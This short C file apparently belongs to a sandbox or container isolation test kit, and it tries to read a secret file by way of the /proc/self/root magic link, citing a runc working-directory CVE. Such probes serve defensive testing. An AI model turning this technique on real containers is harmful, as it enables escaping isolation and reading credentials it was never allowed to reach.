// tries: to reach the secret through /proc/self/root
// works: the magic link leads to the root folder
// see: proc(5); CVE-2024-21626 (runc, a leaked working directory)
// goal: read
#include "../kit.h"

int main(void)
{
	return print_file(join("/proc/self/root", env("SECRET")));
}
